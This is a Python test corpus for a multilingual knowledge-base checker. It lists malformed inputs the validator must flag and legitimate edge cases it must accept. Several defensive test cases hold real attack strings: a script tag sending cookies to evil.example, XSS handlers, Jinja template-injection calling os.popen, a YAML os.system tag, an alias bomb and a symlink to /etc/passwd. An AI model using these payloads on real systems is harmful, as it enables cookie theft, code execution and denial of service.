"""The bad-input corpus: each case changes one thing in a copy of the fixture site and names
the problem staff must be shown (file, line, rule); the legitimate edge cases must pass.

tests/test_bad_inputs.py runs every case through `kb check` in-process; `python -m
tests.bad_inputs` prints the counts the closing note of issue #11 reports (tracebacks, hangs,
wrongly accepted inputs), reproducibly.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from kb.languages import LANGUAGES
from tests.support import Project

Edit = Callable[[Project], None]
STD = "docs/{}/standards/response-time.md"
CS, DE, PL, HY = (STD.format(lang) for lang in ("cs", "de", "pl", "hy"))
RES = "docs/{}/standards/resolution.md"
ORG, LABELS, OWNERS = "docs/_data/organisation.yml", "docs/_data/labels.yml", "docs/_data/owners.yml"
SEARCH = "docs/_data/search.yml"
RESULTS, ACTIONS, MKDOCS = "docs/_data/results.csv", "docs/_data/actions.yml", "mkdocs.yml"


def sub(file: str, pattern: str, replacement: str) -> Edit:
    return lambda project: project.edit(file, pattern, replacement)


def append(file: str, text: str) -> Edit:
    return lambda project: project.write(file, project.read(file) + text)


def write(file: str, text: str) -> Edit:
    return lambda project: project.write(file, text)


def write_bytes(file: str, data: bytes) -> Edit:
    def run(project: Project) -> None:
        project.path(file).write_bytes(data)
    return run


def encode(file: str, encoding: str) -> Edit:
    def run(project: Project) -> None:
        project.path(file).write_bytes(project.read(file).encode(encoding, errors="replace"))

    return run


def _bytes(project: Project, file: str, data: bytes) -> None:
    project.path(file).write_bytes(data)


def delete(file: str) -> Edit:
    return lambda project: project.path(file).unlink()


def symlink(file: str, target: str) -> Edit:
    def run(project: Project) -> None:
        path = project.path(file)
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    return run


def every_language(make: Callable[[str], Edit]) -> Edit:
    def run(project: Project) -> None:
        for lang in LANGUAGES:
            make(lang)(project)

    return run


@dataclass
class Case:
    name: str
    edits: list[Edit]
    expect: list[tuple[str, int | None, str]]  # (file, line or None, rule) that must be reported
    env: dict[str, str] = field(default_factory=dict)
    reminder: bool = False  # the expected problems are reminders, not errors


def case(name: str, edits: Edit | list[Edit], *expect: tuple[str, int | None, str], **options: object) -> Case:
    return Case(name, edits if isinstance(edits, list) else [edits], list(expect), **options)  # type: ignore[arg-type]


ALIAS_BOMB = "a0: &a0 [lol]\n" + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10))

CASES: list[Case] = [
    # --- a standard's front matter -------------------------------------------------------------
    case("owner missing", sub(DE, r"^owner:.*\n", ""), (DE, None, "missing-field")),
    case("metric missing", sub(CS, r"^metric:\n(?:  .*\n)+", ""), (CS, None, "missing-field")),
    case("period missing", sub(PL, r"^  period:.*\n", ""), (PL, 7, "missing-field")),
    case("unit missing", sub(CS, r"^    unit: percent\n", ""), (CS, 9, "missing-field")),
    case("owner not registered", sub(CS, r"^owner: contact-centre", "owner: contact-center"), (CS, 5, "unknown-owner")),
    case("target value with its unit", sub(HY, r"^    value: 95$", "    value: 95 %"), (HY, 12, "target-number")),
    case("unit unknown", sub(DE, r"^    unit: percent$", "    unit: Prozent"), (DE, 13, "bad-value")),
    case(
        "percentage above 100",
        every_language(lambda lang: sub(STD.format(lang), r"^    value: 95$", "    value: 150")),
        (CS, 9, "bad-value"),
    ),
    case(
        "negative time limit",
        every_language(lambda lang: sub(STD.format(lang), r"^    value: 1$", "    value: -1")),
        (CS, 14, "bad-value"),
    ),
    case("target NaN", sub(CS, r"^    value: 95$", "    value: .nan"), (CS, 11, "bad-value")),
    case("target infinite", sub(CS, r"^    value: 95$", "    value: .inf"), (CS, 11, "bad-value")),
    case("review on 30 February", sub(CS, r"^review: .*$", "review: 2027-02-30"), (CS, 18, "bad-date")),
    case("review in year 0", sub(CS, r"^review: .*$", "review: 0000-01-01"), (CS, 18, "bad-date")),
    case("review in 1999", sub(CS, r"^review: .*$", "review: 1999-01-01"), (CS, 18, "bad-value")),
    case(
        "review far ahead",
        every_language(lambda lang: sub(STD.format(lang), r"^review: .*$", "review: 2099-01-01")),
        (CS, 18, "review-too-far"),
    ),
    case("review not a date", sub(CS, r"^review: .*$", "review: next spring"), (CS, 18, "bad-date")),
    case("id does not match the file", sub(HY, r"^id: response-time$", "id: response-times"), (HY, 3, "id-mismatch")),
    case(
        "id used twice",
        sub(RES.format("pl"), r"^id: resolution$", "id: response-time"),
        (RES.format("pl"), 3, "duplicate-id"),
        (PL, 3, "duplicate-id"),
    ),
    case("direction unknown", sub(CS, r"^    direction: at-least$", "    direction: more"), (CS, 10, "bad-value")),
    case("period unknown", sub(CS, r"^  period: month$", "  period: weekly"), (CS, 16, "bad-value")),
    case("time limit in percent", sub(CS, r"^    unit: working-days$", "    unit: percent"), (CS, 15, "bad-value")),
    case("time limit zero", sub(CS, r"^    value: 1$", "    value: 0"), (CS, 14, "bad-value")),
    case(
        "target that promises nothing (the new-standard form's 0)",
        every_language(lambda lang: sub(STD.format(lang), r"^    value: 95$", "    value: 0")),
        (CS, 11, "bad-value"),
    ),
    case(
        "time limit named but not given",
        every_language(lambda lang: sub(RES.format(lang), r"^  within:\n    value: 15\n    unit: working-days\n", "")),
        (RES.format("cs"), 4, "placeholder"),
    ),
    case(
        "first period in the wrong form",
        every_language(lambda lang: sub(STD.format(lang), r"^  period: month$", "  since: 2026-Q4\n  period: month")),
        (CS, 16, "bad-period"),
    ),
    case(
        "earlier target above 100",
        sub(CS, r"^  period: month$", "  previous_targets:\n    - {value: 190, until: 2026-01-31}\n  period: month"),
        (CS, 6, "bad-value"),
    ),
    case(
        "owner differs between languages",
        sub(PL, r"^owner: contact-centre$", "owner: complaints"),
        (PL, 6, "differs-between-languages"),
    ),
    case(
        "target differs between languages",
        sub(DE, r"^    value: 95$", "    value: 90"),
        (DE, 12, "differs-between-languages"),
    ),
    case(
        "time limit differs between languages",
        sub(HY, r"^    value: 1$", "    value: 2"),
        (HY, 15, "differs-between-languages"),
    ),
    case(
        "review differs between languages",
        sub(PL, r"^review: .*$", "review: 2027-05-31"),
        (PL, 19, "differs-between-languages"),
    ),
    case("unknown key (typo)", sub(PL, r"^owner:", "ownr:"), (PL, 6, "unknown-key"), (PL, None, "missing-field")),
    case("key given twice", sub(CS, r"^title:", "title: Rychlost\ntitle:"), (CS, 4, "duplicate-key")),
    # --- YAML ------------------------------------------------------------------------------------
    case(
        "YAML colon in a value",
        sub("docs/cs/contact.md", r"^title: .*$", "title: Kontakt: telefon"),
        ("docs/cs/contact.md", 2, "yaml-syntax"),
    ),
    case("YAML tab indentation", sub(CS, r"^  measure:", "\tmeasure:"), (CS, 7, "yaml-syntax")),
    case(
        "YAML alias bomb", sub("docs/de/faq.md", r"^title:", ALIAS_BOMB + "title:"), ("docs/de/faq.md", 4, "yaml-alias")
    ),
    case(
        "YAML alias",
        sub("docs/pl/faq.md", r"^title: (.*)$", r"title: &t \1\ndescription: *t"),
        ("docs/pl/faq.md", 4, "yaml-alias"),
    ),
    case(
        "YAML Python tag",
        sub("docs/cs/faq.md", r"^title: .*$", "title: !!python/object/apply:os.system [id]"),
        ("docs/cs/faq.md", 2, "yaml-syntax"),
    ),
    case(
        "front matter is a list",
        sub("docs/cs/faq.md", r"\A---\n(?:.*\n)*?---\n", "---\n- Časté dotazy\n---\n"),
        ("docs/cs/faq.md", 2, "front-matter"),
    ),
    case(
        "no front matter", write("docs/hy/index.md", "# Գլխավոր\n\nՏեքստ։\n"), ("docs/hy/index.md", 1, "front-matter")
    ),
    case(
        "front matter not closed",
        sub("docs/de/index.md", r"^---\n\nWillkommen", "\nWillkommen"),
        ("docs/de/index.md", 1, "front-matter"),
    ),
    case(
        "title missing",
        sub("docs/pl/index.md", r"^title: .*\n", "description: Strona\n"),
        ("docs/pl/index.md", None, "missing-field"),
    ),
    case("title empty", sub("docs/pl/index.md", r"^title: .*$", 'title: ""'), ("docs/pl/index.md", 3, "bad-value")),
    case(
        "keywords not a list",
        sub("docs/cs/faq.md", r"^keywords: .*$", "keywords: {a: b}"),
        ("docs/cs/faq.md", 3, "bad-value"),
    ),
    case(
        "search boost absurd",
        sub("docs/cs/faq.md", r"^keywords:", "search: {boost: 1000}\nkeywords:"),
        ("docs/cs/faq.md", 3, "bad-value"),
    ),
    case(
        "hide option unknown",
        sub("docs/cs/faq.md", r"^keywords:", "hide: [sidebar]\nkeywords:"),
        ("docs/cs/faq.md", 3, "bad-value"),
    ),
    case(
        "script in the description",
        sub("docs/cs/faq.md", r"^keywords:", 'description: "<script>alert(1)</script>"\nkeywords:'),
        ("docs/cs/faq.md", 3, "unsafe-html"),
    ),
    case(
        "placeholder in the title",
        sub("docs/cs/faq.md", r"^title: .*$", "title: Dotazy {{ org.name }}"),
        ("docs/cs/faq.md", 2, "placeholder"),
    ),
    case(
        "placeholder in a keyword",
        sub("docs/cs/faq.md", r"^keywords: .*$", "keywords: ['{{ org.phone }}']"),
        ("docs/cs/faq.md", 3, "placeholder"),
    ),
    case("unknown placeholder in a promise", sub(DE, r"\{\{ within \}\}", "{{ withn }}"), (DE, 5, "placeholder")),
    case(
        "translated_from not a version",
        sub("docs/de/faq.md", r"^translated_from: .*$", "translated_from: yesterday"),
        ("docs/de/faq.md", 2, "bad-value"),
    ),
    case(  # an id of digits only, unquoted, is a YAML number: the fix says to quote it
        "translated_from as a number",
        sub("docs/de/faq.md", r"^translated_from: .*$", "translated_from: 117116179595"),
        ("docs/de/faq.md", 2, "bad-value"),
    ),
    # --- page text -----------------------------------------------------------------------------
    case("draft marker", append("docs/hy/contact.md", "\nTODO: լրացնել\n"), ("docs/hy/contact.md", 14, "draft-text")),
    case(
        "word mixing alphabets",
        append("docs/cs/index.md", "\nKonкrétní slib.\n"),
        ("docs/cs/index.md", 7, "mixed-script"),
    ),
    case(
        "one very long word mixing alphabets",
        append("docs/cs/index.md", "\n" + "a" * 20000 + "к\n"),
        ("docs/cs/index.md", 7, "mixed-script"),
    ),
    case(
        "script tag",
        append("docs/cs/index.md", '\n<script>fetch("https://evil.example/?c="+document.cookie)</script>\n'),
        ("docs/cs/index.md", 7, "unsafe-html"),
    ),
    case(
        "event handler attribute",
        append("docs/de/index.md", '\n<img src="x" onerror="alert(1)">\n'),
        ("docs/de/index.md", 8, "unsafe-html"),
    ),
    case(
        "HTML comment with an internal note",
        append("docs/pl/index.md", "\n<!-- klient Nowak: nie odpowiadać -->\n"),
        ("docs/pl/index.md", 8, "unsafe-html"),
    ),
    case(
        "iframe",
        append("docs/hy/index.md", '\n<iframe src="https://evil.example"></iframe>\n'),
        ("docs/hy/index.md", 8, "unsafe-html"),
    ),
    case(
        "javascript link",
        append("docs/cs/index.md", "\n[klikněte](javascript:alert(1))\n"),
        ("docs/cs/index.md", 7, "unsafe-html"),
    ),
    case(
        "code execution through a placeholder",
        append("docs/cs/index.md", "\n{{ cycler.__init__.__globals__.os.popen('id').read() }}\n"),
        ("docs/cs/index.md", 7, "placeholder"),
    ),
    case(
        "attribute of an internal name",
        append("docs/cs/index.md", "\n{{ org.__class__.__mro__ }}\n"),
        ("docs/cs/index.md", 7, "placeholder"),
    ),
    case("huge arithmetic", append("docs/cs/index.md", "\n{{ 9**9**9**9 }}\n"), ("docs/cs/index.md", 7, "placeholder")),
    case(
        "loop",
        append("docs/cs/index.md", "\n{% for i in range(10**9) %}x{% endfor %}\n"),
        ("docs/cs/index.md", 7, "placeholder"),
    ),
    case("import", append("docs/cs/index.md", "\n{% import 'os' as os %}\n"), ("docs/cs/index.md", 7, "placeholder")),
    case(
        "unknown placeholder",
        append("docs/de/contact.md", "\nFax: {{ org.fax }}\n"),
        ("docs/de/contact.md", 14, "placeholder"),
    ),
    case(
        "broken placeholder",
        append("docs/de/contact.md", "\nTelefon: {{ org.phone\n"),
        ("docs/de/contact.md", 14, "placeholder"),
    ),
    case(
        "placeholder with a filter",
        append("docs/pl/contact.md", "\n{{ org.phone | upper }}\n"),
        ("docs/pl/contact.md", 14, "placeholder"),
    ),
    case(
        "placeholder naming a group",
        append("docs/pl/contact.md", "\n{{ org }}\n"),
        ("docs/pl/contact.md", None, "placeholder"),
    ),
    case(
        "placeholder calling a value",
        append("docs/pl/contact.md", "\n{{ org.phone() }}\n"),
        ("docs/pl/contact.md", None, "placeholder"),
    ),
    case(
        "placeholder index",
        append("docs/cs/contact.md", '\n{{ hours["customer-centre"] }}\n'),
        ("docs/cs/contact.md", 13, "placeholder"),
    ),
    case(
        "misspelt standard placeholder",
        append("docs/hy/faq.md", "\n{{ standards.resolution.witin }}\n"),
        ("docs/hy/faq.md", 20, "placeholder"),
    ),
    case(
        "target typed by hand",
        append("docs/cs/faq.md", "\nCílem je 95 % případů.\n"),
        ("docs/cs/faq.md", 19, "typed-target"),
    ),
    case(
        "number written as a word",
        sub("docs/de/complaints.md", r"innerhalb von 2 Arbeitstagen", "innerhalb von zwei Arbeitstagen"),
        ("docs/de/complaints.md", 10, "number-as-word"),
        ("docs/de/complaints.md", 8, "numbers-differ"),
    ),
    case(
        "deadline changed in one language, number found elsewhere",
        sub("docs/de/complaints.md", r"innerhalb von 30 Tagen", "innerhalb von 10 Tagen"),
        ("docs/de/complaints.md", 14, "numbers-differ"),
    ),
    case(
        "number moved to another section",
        [
            sub("docs/pl/complaints.md", r"w ciągu 2 dni roboczych", "niezwłocznie"),
            append("docs/pl/complaints.md", " Najpóźniej w 2 dni.\n"),
        ],
        ("docs/pl/complaints.md", 8, "numbers-differ"),
        ("docs/pl/complaints.md", 15, "numbers-differ"),
    ),
    case(
        "number added in one language",
        sub("docs/hy/complaints.md", r"հեռախոսով", "24 ժամ հեռախոսով"),
        ("docs/hy/complaints.md", 6, "numbers-differ"),
    ),
    case(
        "number in the front matter differs",
        sub(RES.format("de"), r"Das Beschwerderegister", "Das Beschwerderegister seit 2020"),
        (RES.format("de"), 2, "numbers-differ"),
    ),
    case(
        "heading id renamed in one language",
        sub("docs/pl/faq.md", r"\{#reply-time\}", "{#odpowiedz}"),
        ("docs/pl/faq.md", 8, "heading-ids-differ"),
    ),
    case(
        "heading id not ASCII",
        every_language(lambda lang: sub(f"docs/{lang}/faq.md", r"\{#reply-time\}", "{#odpověď}")),
        ("docs/cs/faq.md", 7, "bad-heading-id"),
        ("docs/hy/faq.md", 8, "bad-heading-id"),
    ),
    case(
        "heading id in capitals",
        every_language(lambda lang: sub(f"docs/{lang}/faq.md", r"\{#reply-time\}", "{#Reply-Time}")),
        ("docs/de/faq.md", 8, "bad-heading-id"),
    ),
    case(
        "heading id twice",
        every_language(lambda lang: sub(f"docs/{lang}/faq.md", r"\{#opening-hours\}", "{#reply-time}")),
        ("docs/cs/faq.md", 15, "duplicate-heading-id"),
    ),
    case("page missing in one language", delete("docs/hy/faq.md"), ("docs/cs/faq.md", 1, "missing-translation")),
    case(
        "page only in one language",
        write("docs/de/extra.md", "---\ntitle: Extra\n---\n\nText.\n"),
        ("docs/de/extra.md", 1, "missing-translation"),
    ),
    case(
        "page not in the navigation",
        every_language(lambda lang: write(f"docs/{lang}/extra.md", "---\ntitle: Extra\n---\n\nText.\n")),
        ("docs/cs/extra.md", 1, "not-in-navigation"),
    ),
    case(
        "navigation names a missing page",
        sub(MKDOCS, r"^  - faq\.md$", "  - faq.md\n  - refunds.md"),
        (MKDOCS, None, "navigation-page-missing"),
    ),
    case(
        "languages of mkdocs.yml differ",
        sub(MKDOCS, r"^        - locale: hy\n(?:          .*\n)+", ""),
        (MKDOCS, None, "languages-differ"),
    ),
    # --- files ---------------------------------------------------------------------------------
    case("page saved in Latin-1", encode("docs/de/index.md", "latin-1"), ("docs/de/index.md", 6, "encoding")),
    case("page saved in Windows-1250", encode("docs/cs/faq.md", "cp1250"), ("docs/cs/faq.md", 2, "encoding")),
    case(
        "results exported from Excel in Windows-1250",
        [append(RESULTS, "response-time,2026-06,neměřeno\n"), encode(RESULTS, "cp1250")],
        (RESULTS, 10, "encoding"),
    ),
    case(
        "binary file as a page",
        write_bytes("docs/cs/index.md", b"\x89PNG\r\n\x1a\n\x00\x00\x00"),
        ("docs/cs/index.md", None, "not-text"),
    ),
    case(
        "a page far too large",
        append("docs/cs/index.md", ("slovo " * 70000) + "\n"),
        ("docs/cs/index.md", None, "file-too-large"),
    ),
    case(
        "symlink to a file outside", symlink("docs/cs/secret.md", "/etc/passwd"), ("docs/cs/secret.md", None, "symlink")
    ),
    case("symlinked folder", symlink("docs/de/linked", "/etc"), ("docs/de/linked", None, "symlink")),
    # --- registries ----------------------------------------------------------------------------
    case("owners registry empty", write(OWNERS, "{}\n"), (OWNERS, None, "bad-value")),
    case("owner without Armenian name", sub(OWNERS, r", hy: Բողոքների բաժին\}", "}"), (OWNERS, 7, "missing-field")),
    case(
        "owner e-mail invalid",
        sub(OWNERS, r"stiznosti@kvalitas\.example", "stiznosti at kvalitas"),
        (OWNERS, 8, "bad-value"),
    ),
    case(
        "owner GitHub team invalid",
        sub(OWNERS, r'"@example-org/complaints"', '"complaints team"'),
        (OWNERS, 9, "bad-value"),
    ),
    case("label missing", sub(LABELS, r"^  help_title:.*\n", ""), (LABELS, 5, "missing-field")),
    case(
        "label missing a language",
        sub(LABELS, r'^  help_title: \{cs: "Nenašli jste odpověď\?", ', "  help_title: {"),
        (LABELS, 34, "missing-field"),
    ),
    case(
        "label with an unknown placeholder",
        sub(LABELS, r"Zavolejte nám na \{\{ phone \}\}", "Zavolejte nám na {{ fone }}"),
        (LABELS, 37, "placeholder"),
    ),
    case(
        "unit label without its number",
        sub(LABELS, r'cs: \{other: "\{\{ n \}\} %"\}', 'cs: {other: "procent"}'),
        (LABELS, None, "placeholder"),
    ),
    case(
        "label with HTML", sub(LABELS, r"Keine Antwort gefunden\?", "<b>Keine Antwort</b>"), (LABELS, 34, "unsafe-html")
    ),
    case(
        "label lacks a plural form",
        sub(LABELS, r'cs: \{one: "\{\{ n \}\} minuta", few: "\{\{ n \}\} minuty", ', 'cs: {one: "{{ n }} minuta", '),
        (LABELS, None, "bad-value"),
    ),
    case("labels not valid YAML", sub(LABELS, r"^texts:$", "texts: ["), (LABELS, None, "yaml-syntax")),
    case(
        "organisation without a phone",
        sub(ORG, r"^  - id: phone\n    kind: phone\n", "  - id: phone\n    kind: chat\n"),
        (ORG, None, "bad-value"),
    ),
    case("channel id twice", sub(ORG, r"^  - id: chat$", "  - id: phone"), (ORG, None, "bad-value")),
    case(
        "closes before it opens",
        sub(ORG, r'opens: "08:00", closes: "18:00"', 'opens: "18:00", closes: "08:00"'),
        (ORG, 31, "bad-value"),
    ),
    case(
        "day range as one day",
        sub(
            ORG,
            r"days: \[mon, tue, wed, thu, fri\], opens: \"08:00\", closes: \"18:00\"",
            'days: [mon-fri], opens: "08:00", closes: "18:00"',
        ),
        (ORG, 31, "bad-value"),
    ),
    case("hour 25", sub(ORG, r'closes: "18:00"', 'closes: "25:00"'), (ORG, 31, "bad-value")),
    case(
        "channel names an unknown standard",
        sub(ORG, r"standard: response-time", "standard: response-tme"),
        (ORG, 33, "unknown-standard"),
    ),
    case(
        "channel language unknown",
        sub(ORG, r"languages: \[cs, de, pl, hy\]", "languages: [cs, xx]"),
        (ORG, 32, "bad-value"),
    ),
    case("holiday on 30 February", sub(ORG, r'date: "12-26"', 'date: "02-30"'), (ORG, None, "bad-value")),
    case(
        "holiday with date and Easter", sub(ORG, r'date: "12-26"', 'date: "12-26", easter: 1'), (ORG, None, "bad-value")
    ),
    case("time zone unknown", sub(ORG, r"^timezone: .*$", "timezone: Prague"), (ORG, 25, "bad-value")),
    case("company number too short", sub(ORG, r'company_id: "12345678"', 'company_id: "1234"'), (ORG, 11, "bad-value")),
    case("phone from abroad invalid", sub(ORG, r"phone_abroad: .*", 'phone_abroad: "222 123"'), (ORG, 24, "bad-value")),
    case(
        "privacy notice over http", sub(ORG, r"privacy_notice: https", "privacy_notice: http"), (ORG, 23, "bad-value")
    ),
    case("organisation file missing", delete(ORG), (ORG, None, "data-file")),
    case("labels file missing", delete(LABELS), (LABELS, None, "data-file")),
    case("owners file missing", delete(OWNERS), (OWNERS, None, "data-file")),
    case("actions not valid YAML", append(ACTIONS, "  - standard: [\n"), (ACTIONS, None, "yaml-syntax")),
    case(
        "action for an unknown standard",
        sub(ACTIONS, r"standard: resolution", "standard: refunds"),
        (ACTIONS, 2, "unknown-standard"),
    ),
    case(
        "action with an unknown owner",
        sub(ACTIONS, r"owner: complaints", "owner: nobody"),
        (ACTIONS, 9, "unknown-owner"),
    ),
    case(
        "action for a period that met its target",
        sub(ACTIONS, r"\[2026-08\]", "[2026-08, 2026-09]"),
        (ACTIONS, 2, "action-without-miss"),
    ),
    case("action period misspelt", sub(ACTIONS, r"\[2026-08\]", "[2026-8]"), (ACTIONS, 3, "bad-value")),
    case("action due date invalid", sub(ACTIONS, r"due: 2026-12-31", "due: 2026-13-01"), (ACTIONS, 10, "bad-date")),
    case("action without Armenian", sub(ACTIONS, r"^      hy: .*\n", ""), (ACTIONS, 4, "missing-field")),
    case(
        "missed target without an action",
        sub(RESULTS, r"^resolution,2026-09,90\.2$", "resolution,2026-09,89.0"),
        (RESULTS, 8, "action-missing"),
    ),
    case("most asked question that is no FAQ question",
         sub(SEARCH, r"complaint-time", "complaint-times"), (SEARCH, 2, "unknown-section")),
    case("most asked question listed twice",
         sub(SEARCH, r"opening-hours\]", "reply-time]"), (SEARCH, 2, "bad-value")),
    case("most asked as one word, not a list", sub(SEARCH, r"\[.*\]", "reply-time"), (SEARCH, 2, "bad-value")),
    # --- results -------------------------------------------------------------------------------
    case(
        "results header wrong",
        sub(RESULTS, r"^standard,period,result$", "standard,period,value"),
        (RESULTS, 1, "results-header"),
    ),
    case(
        "results with semicolons (Excel)",
        lambda p: p.write(RESULTS, p.read(RESULTS).replace(",", ";")),
        (RESULTS, 1, "results-header"),
    ),
    case("results row too short", append(RESULTS, "response-time,2026-06\n"), (RESULTS, 10, "results-row")),
    case("results for an unknown standard", append(RESULTS, "refunds,2026-06,90\n"), (RESULTS, 10, "unknown-standard")),
    case(
        "results period of the wrong form", append(RESULTS, "response-time,2026-Q2,90\n"), (RESULTS, 10, "bad-period")
    ),
    case("result with a percent sign", append(RESULTS, "response-time,2026-06,96 %\n"), (RESULTS, 10, "bad-result")),
    case("result with a decimal comma", append(RESULTS, 'response-time,2026-06,"96,2"\n'), (RESULTS, 10, "bad-result")),
    case("result above 100 %", append(RESULTS, "response-time,2026-06,120\n"), (RESULTS, 10, "bad-result")),
    case("result negative", append(RESULTS, "response-time,2026-06,-3\n"), (RESULTS, 10, "bad-result")),
    case("result NaN", append(RESULTS, "response-time,2026-06,nan\n"), (RESULTS, 10, "bad-result")),
    case("result infinite", append(RESULTS, "response-time,2026-06,inf\n"), (RESULTS, 10, "bad-result")),
    case("result twice", append(RESULTS, "response-time,2026-10,90.0\n"), (RESULTS, 10, "duplicate-result")),
    case(
        "result for a future period", append(RESULTS, "response-time,2027-05,96.0\n"), (RESULTS, 10, "result-in-future")
    ),
    case(
        "result for the running month",
        append(RESULTS, "response-time,2026-11,96.0\n"),
        (RESULTS, 10, "result-in-future"),
    ),
    case("result in year 0", append(RESULTS, "response-time,0000-01,96.0\n"), (RESULTS, 10, "bad-period")),
    case("results file empty", write(RESULTS, ""), (RESULTS, 1, "results-header")),
    case("results file missing", delete(RESULTS), (RESULTS, None, "data-file")),
    # --- knock-on errors: the real error only --------------------------------------------------
    case(
        "broken Czech standard is not blamed on results",
        sub(RES.format("cs"), r"^title: .*$", "title: a: b"),
        (RES.format("cs"), 3, "yaml-syntax"),
    ),
    # --- what only the calendar causes: reminders, not errors -----------------------------------
    case(  # on 3 November October has ended, its result is due on 15 November: a note, no owner issue
        "the month just ended not entered yet",
        sub(RESULTS, r"^response-time,2026-10,.*\n", ""),
        (RESULTS, None, "result-not-entered"),
        env={"KB_TODAY": "2026-11-03"},
        reminder=True,
    ),
    case(
        "latest result not entered yet",
        sub(RESULTS, r"^response-time,2026-10,.*\n", ""),
        (RESULTS, None, "result-missing"),
        reminder=True,
    ),
    case("review date passed", [], (CS, 18, "review-overdue"), env={"KB_TODAY": "2027-07-15"}, reminder=True),
    case(
        "corrective action overdue", [], (ACTIONS, 10, "action-overdue"), env={"KB_TODAY": "2027-01-10"}, reminder=True
    ),
]

LEGITIMATE: list[Case] = [
    case(
        "a raise scheduled for next year",
        every_language(lambda lang: sub(STD.format(lang), r"^  period: month$",
                                        "  previous_targets:\n    - {value: 90, until: 2027-01-31}\n  period: month")),
    ),
    case(
        "a new standard owes no result before its first period",
        [sub(RESULTS, r"^response-time,2026-10,.*\n", ""),
         every_language(lambda lang: sub(STD.format(lang), r"^  period: month$", "  since: 2026-11\n  period: month"))],
    ),
    case(
        "Windows line ends",
        lambda p: _bytes(p, "docs/cs/faq.md", p.read("docs/cs/faq.md").replace("\n", "\r\n").encode()),
    ),
    case(
        "byte order mark in a page",
        lambda p: _bytes(p, "docs/de/faq.md", b"\xef\xbb\xbf" + p.read("docs/de/faq.md").encode()),
    ),
    case(
        "byte order mark in YAML data", lambda p: _bytes(p, OWNERS, b"\xef\xbb\xbf" + p.read(OWNERS).encode())
    ),
    case(
        "byte order mark in results (Excel's CSV UTF-8)",
        lambda p: _bytes(p, RESULTS, b"\xef\xbb\xbf" + p.read(RESULTS).encode()),
    ),
    case("escaped HTML in text", append("docs/cs/index.md", "\nZnačka &lt;script&gt; se nezobrazí.\n")),
    case("HTML inside a code span", append("docs/cs/index.md", "\nNapište `<b>` a text.\n")),
    case("front matter closed with dots", sub("docs/pl/index.md", r"^---\n\nWitamy", "...\n\nWitamy")),
    case(
        "a long legitimate word",
        append("docs/de/index.md", "\nDonaudampfschifffahrtsgesellschaftskapitänsmützenabzeichen.\n"),
    ),
    case("numbers in list markers", every_language(lambda lang: append(f"docs/{lang}/index.md", "\n1. A\n2. B\n"))),
    case("result not measured yet", append(RESULTS, "response-time,2026-06,not measured yet\n")),
    case(
        "raised target does not re-rate the past: August met the 85 % then in force",
        [
            every_language(
                lambda lang: sub(
                    RES.format(lang),
                    r"^  period: month$",
                    "  previous_targets:\n    - {value: 85, until: 2026-08-31}\n  period: month",
                )
            ),
            write(ACTIONS, "actions: []\n"),
        ],
    ),
]


def main() -> int:
    """Run the corpus and print the counts: `python -m tests.bad_inputs`."""
    import tempfile

    from tests.test_bad_inputs import outcome

    counts: dict[str, int] = {}
    with tempfile.TemporaryDirectory() as tmp:
        for i, item in enumerate(CASES + LEGITIMATE):
            result = outcome(item, Path(tmp) / str(i))
            counts[result] = counts.get(result, 0) + 1
            if result not in ("clear message", "accepted (legitimate)"):
                print(f"{result}: {item.name}")
    print(f"{len(CASES)} bad inputs, {len(LEGITIMATE)} legitimate edge cases:")
    for name, count in sorted(counts.items()):
        print(f"  {name}: {count}")
    return 0 if set(counts) <= {"clear message", "accepted (legitimate)"} else 1


if __name__ == "__main__":
    raise SystemExit(main())
